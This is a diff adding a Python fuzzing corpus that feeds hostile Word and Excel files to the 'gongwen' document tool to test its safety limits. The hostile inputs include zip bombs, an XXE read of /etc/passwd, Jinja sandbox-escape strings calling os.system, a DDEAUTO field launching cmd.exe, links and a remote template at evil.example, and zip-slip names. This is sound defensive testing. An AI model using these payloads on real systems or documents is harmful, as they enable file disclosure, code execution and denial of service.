@@ -1,0 +1,885 @@
+"""A generated corpus of hostile files, and the run that holds gongwen to its promises on each.
+
+Every case puts one hostile file where a clerk could (the workbook, a template, a file given to
+`check` or `preview`, a returned form) and runs the command that reads it, as a separate
+process. Whatever the file, gongwen must answer with exit 0, 1 or 2, a Chinese message and no
+traceback, write nothing outside the workspace, leave no file in output/ that does not open,
+and stay within TIME_BOUND seconds and MEMORY_BOUND of peak memory (README, 安全).
+
+`tests/test_fuzz.py` runs a sample on every CI run; `python -m scripts.fuzz` runs them all.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import os
+import re
+import shutil
+import struct
+import subprocess
+import sys
+import time
+import zipfile
+import zlib
+from collections.abc import Callable
+from dataclasses import dataclass, field
+from pathlib import Path
+
+from lxml import etree
+
+from generator.standard.package import read_parts, zip_bytes
+from generator.workspace import bundled_root
+
+REPO = Path(__file__).resolve().parent.parent
+TIME_BOUND = 60.0  # seconds, per command (README: 安全)
+MEMORY_BOUND = 2**30  # bytes of peak RSS of the command's process tree (README: 安全)
+NOTICE = "通知"
+FORM_UNIT = "韩村镇"
+FORM_PERIOD = "2018-02"
+
+Setup = Callable[[Path, Path], list[str]]  # (workspace, scratch) -> the command's arguments after -C ws
+
+
+@dataclass(frozen=True)
+class Case:
+    family: str
+    name: str
+    setup: Setup
+
+    @property
+    def id(self) -> str:
+        return f"{self.family}/{self.name}"
+
+
+# --- zips written byte by byte (methods, flags, sizes and names no zip library writes) ---------------
+
+
+@dataclass
+class Entry:
+    name: str
+    data: bytes
+    method: int = 8
+    flags: int = 0
+    declared: int | None = None  # the uncompressed size the directory states (default: the true one)
+    crc: int | None = None
+    payload: bytes | None = None  # the stored bytes (default: data, deflated for method 8)
+
+
+def raw_zip(entries: list[Entry], *, count: int | None = None, zip64_count: int | None = None) -> bytes:
+    out, central = bytearray(), bytearray()
+    for e in entries:
+        name = e.name.encode("utf-8")
+        if e.payload is not None:
+            payload = e.payload
+        elif e.method == 8:
+            d = zlib.compressobj(6, zlib.DEFLATED, -15)
+            payload = d.compress(e.data) + d.flush()
+        else:
+            payload = e.data
+        crc = zlib.crc32(e.data) if e.crc is None else e.crc
+        size = len(e.data) if e.declared is None else e.declared
+        flags = e.flags | (0x800 if not name.isascii() else 0)
+        offset = len(out)
+        out += struct.pack(
+            "<IHHHHHIIIHH", 0x04034B50, 20, flags, e.method, 0, 33, crc, len(payload), size, len(name), 0
+        )
+        out += name + payload
+        central += struct.pack(
+            "<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flags, e.method, 0, 33, crc, len(payload), size,
+            len(name), 0, 0, 0, 0, 0, offset,
+        )  # fmt: skip
+        central += name
+    n = len(entries) if count is None else count
+    cd_offset = len(out)
+    out += central
+    if zip64_count is not None:
+        record = len(out)
+        out += struct.pack(
+            "<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, zip64_count, zip64_count, len(central), cd_offset
+        )
+        out += struct.pack("<IIQI", 0x07064B50, 0, record, 1)
+        n = 0xFFFF
+    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, min(n, 0xFFFF), min(n, 0xFFFF), len(central), cd_offset, 0)
+    return bytes(out)
+
+
+def entries_of(data: bytes) -> list[Entry]:
+    return [Entry(name, part) for name, part in read_parts(data).items()]
+
+
+# --- the files a case starts from --------------------------------------------------------------
+
+
+def good_template() -> bytes:
+    return (bundled_root() / "templates" / f"{NOTICE}.docx").read_bytes()
+
+
+def good_workbook() -> bytes:
+    return (bundled_root() / "inputs" / "活动数据.xlsx").read_bytes()
+
+
+_FORM: dict[str, bytes] = {}
+
+
+def main_part(data: bytes) -> str:
+    names = list(read_parts(data))
+    return next(n for n in ("word/document.xml", "xl/workbook.xml") if n in names)
+
+
+# --- targets: where a hostile file goes, and the command that reads it --------------------------
+
+
+@dataclass(frozen=True)
+class Target:
+    name: str
+    base: Callable[[Path], bytes]  # the good file of this place, from the workspace
+    place: Callable[[Path, Path, bytes | None, Callable[[Path], None] | None], list[str]]
+
+
+def _put(path: Path, data: bytes | None, make: Callable[[Path], None] | None) -> None:
+    path.parent.mkdir(parents=True, exist_ok=True)
+    if path.exists() or path.is_symlink():
+        path.unlink()
+    if make is not None:
+        make(path)
+    else:
+        assert data is not None
+        path.write_bytes(data)
+
+
+def _workbook(ws: Path, scratch: Path, data: bytes | None, make: Callable[[Path], None] | None) -> list[str]:
+    _put(ws / "inputs" / "活动数据.xlsx", data, make)
+    return ["build", "-q", "--kind", NOTICE]
+
+
+def _template(ws: Path, scratch: Path, data: bytes | None, make: Callable[[Path], None] | None) -> list[str]:
+    _put(ws / "templates" / f"{NOTICE}.docx", data, make)
+    return ["build", "-q", "--kind", NOTICE]
+
+
+def _checked(ws: Path, scratch: Path, data: bytes | None, make: Callable[[Path], None] | None) -> list[str]:
+    _put(scratch / "来文.docx", data, make)
+    return ["check", "--no-pdf", str(scratch / "来文.docx")]
+
+
+def _previewed(ws: Path, scratch: Path, data: bytes | None, make: Callable[[Path], None] | None) -> list[str]:
+    _put(scratch / "来文.docx", data, make)
+    return ["preview", str(scratch / "来文.docx")]
+
+
+def _form(ws: Path, scratch: Path, data: bytes | None, make: Callable[[Path], None] | None) -> list[str]:
+    folder = scratch / "收回的报表"
+    _put(folder / f"{FORM_UNIT}.xlsx", data, make)
+    return ["collect", str(folder)]
+
+
+def form_bytes(ws: Path) -> bytes:
+    return next((ws / "output" / "填报表").rglob(f"{FORM_UNIT}*.xlsx")).read_bytes()
+
+
+TARGETS = {
+    "workbook": Target("workbook", lambda ws: (ws / "inputs" / "活动数据.xlsx").read_bytes(), _workbook),
+    "template": Target("template", lambda ws: (ws / "templates" / f"{NOTICE}.docx").read_bytes(), _template),
+    "check": Target("check", lambda ws: (ws / "templates" / f"{NOTICE}.docx").read_bytes(), _checked),
+    "preview": Target("preview", lambda ws: (ws / "templates" / f"{NOTICE}.docx").read_bytes(), _previewed),
+    "form": Target("form", form_bytes, _form),
+}
+
+
+def with_bytes(target: str, change: Callable[[bytes], bytes]) -> Setup:
+    t = TARGETS[target]
+    return lambda ws, scratch: t.place(ws, scratch, change(t.base(ws)), None)
+
+
+def with_file(target: str, make: Callable[[Path, Path], None]) -> Setup:
+    """A special file (link, pipe, folder) made at the target's path; `make(path, scratch)`."""
+    t = TARGETS[target]
+    return lambda ws, scratch: t.place(ws, scratch, None, lambda path: make(path, scratch))
+
+
+# --- family: zip methods ---------------------------------------------------------------------
+
+
+def _method(method: int, flags: int = 0) -> Callable[[bytes], bytes]:
+    def change(data: bytes) -> bytes:
+        entries = entries_of(data)
+        main = main_part(data)
+        for e in entries:
+            if e.name == main or e.name.startswith("xl/worksheets/"):
+                e.method, e.flags = method, flags
+                if method not in (0, 8):
+                    e.payload = bytes(range(256)) * 4  # what an AES or bzip2 stream looks like to us: noise
+        return raw_zip(entries)
+
+    return change
+
+
+METHODS = {
+    "shrunk-1": (1, 0), "imploded-6": (6, 0), "deflate64-9": (9, 0), "bzip2-12": (12, 0), "lzma-14": (14, 0),
+    "zstd-93": (93, 0), "xz-95": (95, 0), "ppmd-98": (98, 0), "aes-99": (99, 1), "aes-99-no-flag": (99, 0),
+    "zipcrypto-deflate": (8, 1), "stored-with-encryption": (0, 1),
+}  # fmt: skip
+
+
+def zip_method_cases() -> list[Case]:
+    return [
+        Case("zip-methods", f"{target}-{label}", with_bytes(target, _method(method, flags)))
+        for target in TARGETS
+        for label, (method, flags) in METHODS.items()
+    ]
+
+
+# --- family: zip sizes -----------------------------------------------------------------------
+
+
+def _bomb(data: bytes) -> bytes:
+    entries = entries_of(data)
+    entries.append(Entry("word/media/bomb.xml", b"\0" * (120 * 2**20)))
+    return raw_zip(entries)
+
+
+def _declared(factor: float | int) -> Callable[[bytes], bytes]:
+    def change(data: bytes) -> bytes:
+        entries = entries_of(data)
+        main = main_part(data)
+        for e in entries:
+            if e.name == main:
+                e.declared = int(len(e.data) * factor) if isinstance(factor, float) else factor
+        return raw_zip(entries)
+
+    return change
+
+
+def _many_entries(n: int) -> Callable[[bytes], bytes]:
+    def change(data: bytes) -> bytes:
+        return raw_zip([*entries_of(data), *(Entry(f"customXml/item{i}.xml", b"<a/>") for i in range(n))])
+
+    return change
+
+
+def _count_lies(count: int, zip64: bool = False) -> Callable[[bytes], bytes]:
+    def change(data: bytes) -> bytes:
+        return raw_zip(entries_of(data), count=None if zip64 else count, zip64_count=count if zip64 else None)
+
+    return change
+
+
+def _duplicate_main(data: bytes) -> bytes:
+    entries = entries_of(data)
+    main = main_part(data)
+    return raw_zip([*entries, Entry(main, b"<x/>")])
+
+
+def _stored_size_lie(data: bytes) -> bytes:
+    entries = entries_of(data)
+    main = main_part(data)
+    for e in entries:
+        if e.name == main:
+            e.method, e.declared = 0, len(e.data) * 3
+    return raw_zip(entries)
+
+
+SIZES: dict[str, Callable[[bytes], bytes]] = {
+    "bomb-120MB-of-zeros": _bomb,
+    "declared-smaller": _declared(0.5),
+    "declared-larger": _declared(2.0),
+    "declared-2GB": _declared(2**31 - 1),
+    "declared-zero": _declared(0),
+    "2000-entries": _many_entries(2000),
+    "count-says-65535": _count_lies(65535),
+    "zip64-count-10-million": _count_lies(10_000_000, zip64=True),
+    "duplicate-main-part": _duplicate_main,
+    "stored-size-lie": _stored_size_lie,
+    "empty-zip": lambda data: raw_zip([]),
+}
+
+
+def zip_size_cases() -> list[Case]:
+    return [
+        Case("zip-sizes", f"{target}-{label}", with_bytes(target, change))
+        for target in TARGETS
+        for label, change in SIZES.items()
+    ]
+
+
+# --- family: damaged parts -------------------------------------------------------------------
+
+
+def _truncate(fraction: float) -> Callable[[bytes], bytes]:
+    return lambda data: data[: int(len(data) * fraction)]
+
+
+def _edit_main(edit: Callable[[bytes], bytes]) -> Callable[[bytes], bytes]:
+    def change(data: bytes) -> bytes:
+        parts = read_parts(data)
+        main = main_part(data)
+        parts[main] = edit(parts[main])
+        return zip_bytes(parts)
+
+    return change
+
+
+def _bad_crc(data: bytes) -> bytes:
+    entries = entries_of(data)
+    for e in entries:
+        if e.name == main_part(data):
+            e.crc = 12345
+    return raw_zip(entries)
+
+
+def _without_main(data: bytes) -> bytes:
+    parts = read_parts(data)
+    del parts[main_part(data)]
+    return zip_bytes(parts)
+
+
+DEEP = b"<a>" * 100_000 + b"</a>" * 100_000
+LAUGHS = (
+    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
+    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]><l>&d;&d;&d;</l>'
+)
+XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
+
+DAMAGES: dict[str, Callable[[bytes], bytes]] = {
+    "truncated-10pc": _truncate(0.1),
+    "truncated-50pc": _truncate(0.5),
+    "truncated-90pc": _truncate(0.9),
+    "truncated-last-byte": lambda d: d[:-1],
+    "truncated-end-record": lambda d: d[:-22],
+    "bad-crc": _bad_crc,
+    "main-part-missing": _without_main,
+    "main-part-empty": _edit_main(lambda x: b""),
+    "main-part-truncated": _edit_main(lambda x: x[: len(x) // 2]),
+    "main-part-not-xml": _edit_main(lambda x: b"\x89PNG\r\n\x1a\n" + os.urandom(64)),
+    "main-part-deep-nesting": _edit_main(lambda x: DEEP),
+    "main-part-billion-laughs": _edit_main(lambda x: LAUGHS),
+    "main-part-xxe": _edit_main(lambda x: XXE),
+    "main-part-wrong-root": _edit_main(lambda x: b'<?xml version="1.0"?><html><body>hi</body></html>'),
+    "main-part-utf16": _edit_main(lambda x: x.decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")),
+    "random-bytes-with-zip-end": lambda d: os.urandom(2000) + d[-22:],
+}  # fmt: skip
+
+# Parts Word needs besides the main one: each missing, empty, cut in half, or not XML.
+REQUIRED = ["word/styles.xml", "word/settings.xml", "word/_rels/document.xml.rels", "[Content_Types].xml", "word/numbering.xml", "word/fontTable.xml"]  # fmt: skip
+
+
+def _edit_part(name: str, how: str) -> Callable[[bytes], bytes]:
+    def change(data: bytes) -> bytes:
+        parts = read_parts(data)
+        if how == "missing":
+            parts.pop(name, None)
+        elif how == "empty":
+            parts[name] = b""
+        elif how == "truncated":
+            parts[name] = parts.get(name, b"<x>")[: max(1, len(parts.get(name, b"<x>")) // 2)]
+        else:
+            parts[name] = b"not xml at all"
+        return zip_bytes(parts)
+
+    return change
+
+
+def damaged_cases() -> list[Case]:
+    cases = [
+        Case("damaged", f"{t}-{label}", with_bytes(t, change)) for t in TARGETS for label, change in DAMAGES.items()
+    ]
+    for name in REQUIRED:
+        for how in ("missing", "empty", "truncated", "not-xml"):
+            label = f"{name.replace('/', '_')}-{how}"
+            cases.append(Case("damaged", f"template-{label}", with_bytes("template", _edit_part(name, how))))
+            if how != "missing":
+                cases.append(Case("damaged", f"check-{label}", with_bytes("check", _edit_part(name, how))))
+    return cases
+
+
+# --- family: huge parts ----------------------------------------------------------------------
+
+
+def _huge_document(paragraphs: int, text: str = "第一条 为了规范公文处理工作") -> Callable[[bytes], bytes]:
+    def change(data: bytes) -> bytes:
+        parts = read_parts(data)
+        p = f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>".encode()
+        xml = parts["word/document.xml"]
+        at = xml.index(b"<w:body>") + len(b"<w:body>")
+        parts["word/document.xml"] = xml[:at] + p * paragraphs + xml[at:]
+        return zip_bytes(parts)
+
+    return change
+
+
+def _many_tags(count: int, tag: str) -> Callable[[bytes], bytes]:
+    def change(data: bytes) -> bytes:
+        parts = read_parts(data)
+        xml = parts["word/document.xml"]
+        at = xml.index(b"<w:body>") + len(b"<w:body>")
+        p = f"<w:p><w:r><w:t>{tag * count}</w:t></w:r></w:p>".encode()
+        parts["word/document.xml"] = xml[:at] + p + xml[at:]
+        return zip_bytes(parts)
+
+    return change
+
+
+def _sheet_rows(rows: int, cells: int = 0) -> Callable[[bytes], bytes]:
+    """The workbook's 单位 sheet with `rows` more row elements (empty, or of `cells` cells)."""
+
+    def change(data: bytes) -> bytes:
+        parts = read_parts(data)
+        sheet = next(n for n in parts if n.startswith("xl/worksheets/sheet") and b"</sheetData>" in parts[n])
+        cell = b"".join(b'<c t="inlineStr"><is><t>x</t></is></c>' for _ in range(cells))
+        extra = b"".join(b"<row>" + cell + b"</row>" for _ in range(rows))
+        parts[sheet] = parts[sheet].replace(b"</sheetData>", extra + b"</sheetData>", 1)
+        return zip_bytes(parts)
+
+    return change
+
+
+def _wide_row(columns: int) -> Callable[[bytes], bytes]:
+    return _sheet_rows(1, columns)
+
+
+def huge_cases() -> list[Case]:
+    cases = []
+    for target in ("template", "check", "preview"):
+        cases += [
+            Case("huge", f"{target}-100k-paragraphs", with_bytes(target, _huge_document(100_000))),
+            Case("huge", f"{target}-60MB-document", with_bytes(target, _huge_document(1_000_000, "公" * 20))),
+        ]
+    cases += [
+        Case("huge", "template-1MB-of-tags", with_bytes("template", _many_tags(60_000, "{{ 发文.标题 }}"))),
+        Case(
+            "huge",
+            "template-100k-loop-tags",
+            with_bytes("template", _many_tags(25_000, "{% for x in [1] %}{% endfor %}")),
+        ),
+        Case(
+            "huge",
+            "template-deep-ifs",
+            with_bytes("template", _many_tags(1, "{% if true %}" * 3000 + "{% endif %}" * 3000)),
+        ),
+        Case("huge", "template-long-text-run", with_bytes("template", _many_tags(1, "字" * 5_000_000))),
+        Case("huge", "workbook-300k-empty-rows", with_bytes("workbook", _sheet_rows(300_000))),
+        Case("huge", "workbook-3-million-cells", with_bytes("workbook", _sheet_rows(150_000, 20))),
+        Case("huge", "workbook-20k-columns", with_bytes("workbook", _wide_row(20_000))),
+        Case("huge", "form-5000-rows", with_bytes("form", _sheet_rows(5000))),
+        Case("huge", "check-60k-tags", with_bytes("check", _many_tags(60_000, "{{ x }}"))),
+    ]
+    return cases
+
+
+# --- family: file types ----------------------------------------------------------------------
+
+
+def _pdf(data: bytes) -> bytes:
+    return b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
+
+
+def _symlink_to(target: str) -> Callable[[Path, Path], None]:
+    return lambda path, scratch: path.symlink_to(target)
+
+
+def _symlink_outside(path: Path, scratch: Path) -> None:
+    """A link to a good file of the same kind that lies outside the workspace."""
+    outside = scratch / f"outside{path.suffix}"
+    outside.write_bytes(good_template() if path.suffix == ".docx" else good_workbook())
+    path.symlink_to(outside)
+
+
+def _fifo(path: Path, scratch: Path) -> None:
+    os.mkfifo(path)
+
+
+def _folder(path: Path, scratch: Path) -> None:
+    path.mkdir()
+
+
+def _loop(path: Path, scratch: Path) -> None:
+    other = path.with_name("loop-" + path.name)
+    path.symlink_to(other)
+    other.symlink_to(path)
+
+
+FILE_BYTES: dict[str, Callable[[bytes], bytes]] = {
+    "pdf-renamed": _pdf,
+    "empty-file": lambda d: b"",
+    "random-bytes": lambda d: os.urandom(4096),
+    "ole2-header": lambda d: bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 4096,
+    "html-page": lambda d: "<html><body>公文</body></html>".encode(),
+    "png-image": lambda d: b"\x89PNG\r\n\x1a\n" + os.urandom(256),
+    "zip-of-text": lambda d: zip_bytes({"readme.txt": "你好".encode()}),
+    "xlsx-as-docx": lambda d: good_workbook(),
+    "docx-as-xlsx": lambda d: good_template(),
+}
+FILE_KINDS: dict[str, Callable[[Path, Path], None]] = {
+    "fifo": _fifo,
+    "symlink-dev-zero": _symlink_to("/dev/zero"),
+    "symlink-dev-urandom": _symlink_to("/dev/urandom"),
+    "symlink-etc-passwd": _symlink_to("/etc/passwd"),
+    "symlink-dangling": _symlink_to("/nonexistent/gongwen-missing.docx"),
+    "symlink-loop": _loop,
+    "symlink-outside-workspace": _symlink_outside,
+    "folder": _folder,
+}
+
+
+def file_type_cases() -> list[Case]:
+    cases = [
+        Case("file-types", f"{t}-{label}", with_bytes(t, change))
+        for t in TARGETS
+        for label, change in FILE_BYTES.items()
+    ]
+    cases += [
+        Case("file-types", f"{t}-{label}", with_file(t, make)) for t in TARGETS for label, make in FILE_KINDS.items()
+    ]
+    return cases
+
+
+# --- family: sandbox bombs (template text) ---------------------------------------------------------
+
+BOMBS = {
+    "string-doubling-concat": "{% set s = namespace(v='ab') %}{% for i in range(60) %}{% set s.v = s.v ~ s.v %}{% endfor %}{{ s.v|length }}",
+    "string-doubling-plus": "{% set s = namespace(v='ab') %}{% for i in range(60) %}{% set s.v = s.v + s.v %}{% endfor %}{{ s.v|length }}",
+    "list-doubling": "{% set s = namespace(v=[1]) %}{% for i in range(60) %}{% set s.v = s.v + s.v %}{% endfor %}{{ s.v|length }}",
+    "repeat-star": "{{ 'x' * 1000000000 }}",
+    "repeat-star-loop": "{% for i in range(5000) %}{{ '字' * 999999 }}{% endfor %}",
+    "power-tower": "{{ 9 ** 9 ** 9 }}",
+    "power-big": "{{ 10 ** 100000 }}",
+    "range-huge": "{% for i in range(10**9) %}x{% endfor %}",
+    "nested-loops": "{% for i in range(10000) %}{% for j in range(10000) %}{% endfor %}{% endfor %}",
+    "recursive-macro": "{% macro m(n) %}{{ m(n + 1) }}{% endmacro %}{{ m(0) }}",
+    "center-huge": "{{ 'x'|center(1000000000) }}",
+    "indent-huge": "{{ 'a\nb'|indent(1000000000) }}",
+    "format-width": "{{ '%1000000000s'|format('x') }}",
+    "replace-blowup": "{% set s = namespace(v='aaaaaaaaaa') %}{% for i in range(12) %}{% set s.v = s.v|replace('a', 'aaaaaaaaaa') %}{% endfor %}{{ s.v|length }}",
+    "join-blowup": "{{ (range(10000)|list) * 10000 }}",
+    "wordwrap-huge": "{{ ('x ' * 900000)|wordwrap(1) }}",
+    "lipsum-huge": "{{ lipsum(1000000) }}",
+    "dunder-class": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+    "globals-escape": "{{ cycler.__init__.__globals__.os.system('id') }}",
+    "self-dict": "{{ self.__dict__ }}",
+    "include": "{% include '/etc/passwd' %}",
+    "import": "{% import 'x' as y %}",
+    "extends": "{% extends '/etc/passwd' %}",
+    "namespace-attr": "{{ namespace.__init__ }}",
+    "format-attr": "{{ '{0.__class__}'.format(1) }}",
+    "str-format-map": "{{ '{a.__globals__}'.format_map({'a': cycler.__init__}) }}",
+    "int-huge-string": "{{ ('9' * 100000)|int }}",
+    "dict-items-loop": "{% for k, v in 发文.items() %}{% for i in range(10000) %}{{ v }}{% endfor %}{% endfor %}",
+    "output-100M": "{% for i in range(10000) %}{{ '公文' * 500000 }}{% endfor %}",
+    "sum-range": "{{ range(10000)|sum }}{{ (range(10000)|list)|batch(1)|list|length }}",
+    "unbalanced": "{% if true %}{% for x in y %}",
+    "undefined": "{{ 不存在的变量 }}",
+}
+
+
+def sandbox_cases() -> list[Case]:
+    return [Case("sandbox-bombs", label, with_bytes("template", _many_tags(1, tag))) for label, tag in BOMBS.items()]
+
+
+# --- family: wrong types in cells ------------------------------------------------------------------
+
+
+def _cell_xml(kind: str, value: str, extra: str = "") -> Callable[[str], str]:
+    t = f' t="{kind}"' if kind else ""
+    return lambda ref: f'<c r="{ref}"{t}{extra}><v>{value}</v></c>'
+
+
+CELLS: dict[str, Callable[[str], str]] = {
+    "bool-text": _cell_xml("b", "maybe"),
+    "shared-index-huge": _cell_xml("s", "99999999"),
+    "shared-index-negative": _cell_xml("s", "-1"),
+    "shared-index-text": _cell_xml("s", "abc"),
+    "number-text": _cell_xml("n", "abc"),
+    "number-overflow": _cell_xml("n", "1e400"),
+    "number-nan": _cell_xml("n", "NaN"),
+    "number-inf": _cell_xml("", "-inf"),
+    "iso-date-type": _cell_xml("d", "2018-13-45T99:99:99"),
+    "error-value": _cell_xml("e", "#DIV/0!"),
+    "inline-without-is": lambda ref: f'<c r="{ref}" t="inlineStr"/>',
+    "huge-string": lambda ref: f'<c r="{ref}" t="inlineStr"><is><t>{"字" * 2_000_000}</t></is></c>',
+    "style-index-huge": _cell_xml("", "43000", ' s="99999"'),
+    "date-serial-huge": _cell_xml("", "1e12", ' s="1"'),
+    "date-serial-negative": _cell_xml("", "-5", ' s="1"'),
+    "formula-no-value": lambda ref: f'<c r="{ref}"><f>1/0</f></c>',
+    "nested-elements": lambda ref: f'<c r="{ref}" t="str"><v><v><v>1</v></v></v></c>',
+    "unknown-type": _cell_xml("zz", "1"),
+}
+
+
+def _cell_in(sheet_name: str, ref: str, make: Callable[[str], str]) -> Callable[[bytes], bytes]:
+    """Replace (or add) cell `ref` of the sheet named `sheet_name` with hostile XML."""
+
+    def change(data: bytes) -> bytes:
+        parts = read_parts(data)
+        book = etree.fromstring(parts["xl/workbook.xml"])
+        ns = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
+        rid = next(
+            s.get("{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id")
+            for s in book.iterfind(".//m:sheet", ns)
+            if s.get("name") == sheet_name
+        )
+        rels = etree.fromstring(parts["xl/_rels/workbook.xml.rels"])
+        target = next(r.get("Target") for r in rels if r.get("Id") == rid)
+        path = target.lstrip("/") if target.startswith("/") else f"xl/{target}"
+        xml = parts[path].decode("utf-8")
+        row = int(re.sub(r"[A-Z]", "", ref))
+        cell = re.search(rf'<c r="{ref}"[^>]*?(/>|>.*?</c>)', xml)
+        if cell:
+            xml = xml[: cell.start()] + make(ref) + xml[cell.end() :]
+        else:
+            row_xml = re.search(rf'<row r="{row}"[^>]*>', xml)
+            if row_xml:
+                xml = xml[: row_xml.end()] + make(ref) + xml[row_xml.end() :]
+            else:
+                xml = xml.replace("</sheetData>", f'<row r="{row}">{make(ref)}</row></sheetData>', 1)
+        parts[path] = xml.encode("utf-8")
+        return zip_bytes(parts)
+
+    return change
+
+
+CELL_PLACES = {
+    "issue-date": ("workbook", "发文", "B5"),  # 成文日期
+    "unit-name": ("workbook", "单位", "A3"),
+    "report-figure": ("workbook", "统计报表", "C2"),
+}
+
+
+def cell_cases() -> list[Case]:
+    cases = []
+    for place, (target, sheet, ref) in CELL_PLACES.items():
+        for label, make in CELLS.items():
+            cases.append(Case("cell-types", f"{place}-{label}", with_bytes(target, _cell_in(sheet, ref, make))))
+    cases += [Case("cell-types", f"form-figure-{label}", _form_cell(make)) for label, make in CELLS.items()]
+    return cases
+
+
+def _form_cell(make: Callable[[str], str]) -> Setup:
+    """A returned form whose first figure cell is hostile."""
+
+    def setup(ws: Path, scratch: Path) -> list[str]:
+        data = form_bytes(ws)
+        book = etree.fromstring(read_parts(data)["xl/workbook.xml"])
+        first = next(s for s in book.iter() if etree.QName(s).localname == "sheet")
+        return _form(ws, scratch, _cell_in(first.get("name", ""), "C4", make)(data), None)
+
+    return setup
+
+
+# --- family: active content in templates ------------------------------------------------------------
+
+R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def _add_to_body(
+    xml_fragment: str, rels: tuple[tuple[str, str, str, str], ...] = (), parts: dict[str, bytes] | None = None
+) -> Callable[[bytes], bytes]:
+    def change(data: bytes) -> bytes:
+        package = read_parts(data)
+        doc = package["word/document.xml"]
+        at = doc.index(b"<w:body>") + len(b"<w:body>")
+        package["word/document.xml"] = doc[:at] + xml_fragment.encode() + doc[at:]
+        if rels:
+            r = package["word/_rels/document.xml.rels"]
+            extra = "".join(
+                f'<Relationship Id="{rid}" Type="{typ}" Target="{target}"{mode}/>' for rid, typ, target, mode in rels
+            )
+            package["word/_rels/document.xml.rels"] = r.replace(
+                b"</Relationships>", extra.encode() + b"</Relationships>"
+            )
+        package.update(parts or {})
+        return zip_bytes(package)
+
+    return change
+
+
+HYPERLINK = R_NS + "/hyperlink"
+EXTERNAL = ' TargetMode="External"'
+ACTIVE = {
+    "hyperlink-file": _add_to_body('<w:p><w:hyperlink r:id="rX1"><w:r><w:t>点此</w:t></w:r></w:hyperlink></w:p>', (("rX1", HYPERLINK, "file:///C:/Windows/system32/calc.exe", EXTERNAL),)),
+    "hyperlink-unc": _add_to_body('<w:p><w:hyperlink r:id="rX1"><w:r><w:t>点此</w:t></w:r></w:hyperlink></w:p>', (("rX1", HYPERLINK, "\\\\evil.example\\share\\x", EXTERNAL),)),
+    "hyperlink-javascript": _add_to_body('<w:p><w:hyperlink r:id="rX1"><w:r><w:t>点此</w:t></w:r></w:hyperlink></w:p>', (("rX1", HYPERLINK, "javascript:alert(1)", EXTERNAL),)),
+    "includetext-field": _add_to_body('<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;C:\\\\secret.docx&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'),
+    "includetext-complex": _add_to_body('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDETEXT "\\\\\\\\evil\\\\x.docx" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'),
+    "includepicture-link": _add_to_body('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE "http://evil.example/x.png" \\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'),
+    "ddeauto-field": _add_to_body('<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'),
+    "dde-field": _add_to_body('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDE excel "x" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'),
+    "subdoc": _add_to_body('<w:p><w:subDoc r:id="rX2"/></w:p>', (("rX2", R_NS + "/subDocument", "file:///C:/x.docx", EXTERNAL),)),
+    "altchunk": _add_to_body('<w:altChunk r:id="rX3"/>', (("rX3", R_NS + "/aFChunk", "chunk.html", ""),), {"word/chunk.html": b"<html><script>alert(1)</script></html>"}),
+    "vba-project": lambda d: zip_bytes({**read_parts(d), "word/vbaProject.bin": os.urandom(512)}),
+    "ole-object": _add_to_body('<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" r:id="rX4" ProgID="Package"/></w:object></w:r></w:p>', (("rX4", R_NS + "/oleObject", "embeddings/x.bin", ""),), {"word/embeddings/x.bin": os.urandom(64)}),
+    "external-image": _add_to_body("<w:p/>", (("rX5", R_NS + "/image", "http://evil.example/track.png", EXTERNAL),)),
+    "external-template": lambda d: _settings_template(d),
+    "zip-slip-name": lambda d: raw_zip([*entries_of(d), Entry("../../evil.txt", b"x")]),
+    "zip-slip-absolute": lambda d: raw_zip([*entries_of(d), Entry("/tmp/evil.txt", b"x")]),
+    "zip-slip-backslash": lambda d: raw_zip([*entries_of(d), Entry("..\\..\\evil.txt", b"x")]),
+}  # fmt: skip
+
+
+def _settings_template(data: bytes) -> bytes:
+    parts = read_parts(data)
+    rels = b'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rT1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="\\\\evil.example\\t.dotm" TargetMode="External"/></Relationships>'
+    parts["word/_rels/settings.xml.rels"] = rels
+    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
+        b"<w:zoom",
+        b'<w:attachedTemplate r:id="rT1" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/><w:zoom',
+        1,
+    )
+    return zip_bytes(parts)
+
+
+def active_cases() -> list[Case]:
+    return [Case("active-content", label, with_bytes("template", change)) for label, change in ACTIVE.items()]
+
+
